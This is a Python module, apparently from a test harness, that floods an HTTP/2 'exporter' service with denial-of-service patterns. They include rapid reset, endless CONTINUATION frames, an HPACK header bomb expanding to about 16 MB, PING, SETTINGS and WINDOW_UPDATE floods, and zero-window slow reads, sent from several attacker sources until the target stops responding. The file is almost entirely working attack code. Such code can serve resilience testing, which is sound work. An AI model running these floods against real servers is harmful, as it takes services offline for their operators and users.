"""As much as one can ask for: requests that are cancelled at once or not read, and HTTP/2 frames that cost their sender little."""
import time

import h2
from holding import ATTACKERS, hold_h2

REPORTS = ("/", "/debug/containers")


def flood(target, seconds, connections, block):
    """`block(stream)` in a row on many connections, each opened anew when it is closed; says how many blocks were sent."""
    exporter, end, sent = target.exporter, time.monotonic() + seconds, []

    def work(source):
        while time.monotonic() < end and exporter.alive():
            try:
                one = h2.Connection(exporter, source, timeout=2)
            except OSError:
                time.sleep(0.05)
                continue
            stream = 1
            while not one.dead and time.monotonic() < end and stream < 2**30:
                parts = []
                for _ in range(32):
                    parts.append(block(stream))
                    stream += 2
                one.send(b"".join(parts))
                one.frames(0)
                sent.append(32)
            one.close()

    h2.crowd([lambda source=source: work(source) for source in ATTACKERS[:4] for _ in range(connections // 4)])
    return f"{sum(sent)} sent"


def cancelled(*paths):
    return lambda stream: h2.get(stream, paths[stream // 2 % len(paths)]) + h2.rst(stream)


def reports_unread(target, seconds):
    """120 connections with 16 streams each on `/` and `/debug/containers`, and a window of 0."""
    end = time.monotonic() + seconds
    works = [lambda source=source: hold_h2(target.exporter, source, end, REPORTS) for source in ATTACKERS[:4] for _ in range(30)]
    h2.crowd(works)
    return ""


def reports_read(target, seconds):
    """Many that read: a GET of `/` and of `/debug/containers` after the other on 28 connections of one address."""
    end, done = time.monotonic() + seconds, []

    def work(number):
        while time.monotonic() < end and target.exporter.alive():
            done.append(target.exporter.ask(REPORTS[number % 2], ATTACKERS[0])[0])
            if done[-1] != 200:
                time.sleep(0.05)

    h2.crowd([lambda number=number: work(number) for number in range(28)])
    return f"{done.count(200)} reports, {len(done) - done.count(200)} refused"


def continuation(stream):
    return h2.frame(h2.HEADERS, 1, stream, h2.request()) + h2.frame(h2.CONTINUATION, 0, stream) * 200


def bomb(stream):
    """A field put into the dynamic table, and then named a thousand times by one byte each."""
    return h2.frame(h2.HEADERS, 5, stream, h2.request() + h2.field("x", "y" * 3900, 0x40) + b"\xbe" * 4000)


POST = h2.field(":method", "POST") + h2.SCHEME + h2.field(":path", "/metrics")
# Frames that make work or answers, by name.
FRAMES = {
    "rapid reset of /metrics": cancelled("/metrics"),
    "PING": lambda _: h2.frame(h2.PING, 0, 0, b"12345678") * 20,
    "SETTINGS": lambda _: h2.settings((h2.INITIAL_WINDOW, 65535)) * 20,
    "SETTINGS of 1,000 pairs": lambda _: h2.settings(*[(h2.INITIAL_WINDOW, 65535)] * 1000),
    "RST_STREAM of idle streams": h2.rst,
    "CONTINUATION without end": continuation,
    "a header block that unpacks to 16 MB": bomb,
    "WINDOW_UPDATE by 1": lambda _: h2.window_update(0, 1) * 50,
    "PRIORITY": lambda stream: h2.frame(h2.PRIORITY, 0, stream, b"\x00\x00\x00\x00\x10") * 20,
    "empty DATA": lambda stream: h2.frame(h2.HEADERS, 4, stream, h2.request()) + h2.frame(h2.DATA, 0, stream) * 100 + h2.rst(stream),
    "unknown frames": lambda stream: h2.frame(200, 0, stream, b"x" * 1000) * 20,
    "methods that are refused": lambda stream: h2.frame(h2.HEADERS, 5, stream, POST),
}


def frames(target, seconds):
    """Each kind of frame for its share of the time."""
    notes = []
    for name, block in FRAMES.items():
        flood(target, seconds / len(FRAMES), 24, block)
        if not target.exporter.alive():
            notes.append(f"ended by {name}")
            break
    return "; ".join(notes)
